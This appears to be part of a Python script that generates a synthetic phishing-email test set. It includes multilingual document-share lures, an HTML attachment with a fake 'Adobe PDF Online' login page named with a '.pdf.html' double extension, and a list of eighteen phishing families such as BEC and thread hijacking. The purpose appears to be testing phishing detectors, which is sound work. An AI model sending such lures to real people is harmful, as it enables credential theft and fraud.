            text = f"Guten Tag,\n\nbitte sehen Sie sich die angehängten Unterlagen an und bestätigen Sie den Erhalt.\n\n{link}\n\nMit freundlichen Grüßen\n{who}\n\n{quoted}\n"
        elif lang == "it":
            text = f"Buongiorno,\n\nin riferimento alla sua richiesta, trova i documenti al seguente link.\n\n{link}\n\nCordiali saluti\n{who}\n\n{quoted}\n"
        else:
            text = f"Goedemiddag,\n\nZie de bijgevoegde documenten via onderstaande link en bevestig graag de ontvangst.\n\n{link}\n\nMet vriendelijke groet,\n{who}\n\n{quoted}\n"
    else:
        name = f"{rs(r, 2, string.ascii_uppercase)}_{digits(r, 7)}.pdf.html"
        att = [
            attach(
                name,
                HTM,
                htm_login(r, "Adobe PDF Online", p.email, landing(r, "adobe", ""), r.randrange(5)).encode(),
            )
        ]
        text = f"Hi,\n\nAttached the document as discussed. Open with your browser.\n\n{who}\n{org[0]}\n\n{quoted}\n"
    subj = r.choice(["RE: ", "Re: ", "RE: RE: ", "AW: ", "R: "]) + topic
    return letter(
        r, rt, p.email, addr(p.name, p.email), dt, addr(who, rt.envelope), subj, text, extra, att, cs=cs
    )


# --------------------------------------------------------------------------------------------

PLAN: list[tuple[str, Builder, int]] = [
    ("m365", f_m365, 17),
    ("voicemail-fax", f_voicemail, 12),
    ("document-share", f_docshare, 18),
    ("webmail-deactivation", f_webmail, 11),
    ("parcel-fees", f_parcel, 14),
    ("bank-card", f_bank, 13),
    ("subscription-billing", f_subscriptions, 13),
    ("tax-government", f_taxgov, 12),
    ("crypto-wallet", f_crypto, 10),
    ("social-media", f_social, 10),
    ("invoice-attachments", f_invoice, 15),
    ("bec", f_bec, 16),
    ("thread-hijack", f_thread_hijack, 10),
    ("qr-phishing", f_qr, 10),
    ("hr-payroll", f_hr, 10),
    ("domain-hosting", f_domain, 10),
    ("saas-callback", f_saas, 12),
    ("service-abuse", f_service_abuse, 12),
]
FAMILIES = [f for f, _, _ in PLAN]


def messages(split: str = "test", seed: int = 1) -> list[tuple[str, bytes]]:
    """The set, ``(name, RFC 5322 bytes)``; only ``test`` exists (``dev`` is empty)."""
    if split == "dev":
        return []
    out: list[tuple[str, bytes]] = []
    for family, build, calls in PLAN:
        rng = random.Random(f"{seed}:{family}")
        for i in range(calls):
            out.append((f"{family}-{i + 1:04d}", build(rng, i)))
    return out


def main(argv: Sequence[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0] if __doc__ else None)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--out", type=Path, default=None)
    args = ap.parse_args(argv)
    msgs = messages("test", args.seed)
    counts: dict[str, int] = {}
    for name, _ in msgs:
        fam = name.rsplit("-", 1)[0]
        counts[fam] = counts.get(fam, 0) + 1
    for fam in FAMILIES:
        print(f"{fam:22} {counts.get(fam, 0):4}")
    print(f"{'total':22} {len(msgs):4}")
    if args.out:
        args.out.mkdir(parents=True, exist_ok=True)
        for name, data in msgs:
            (args.out / f"{name}.eml").write_bytes(data)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
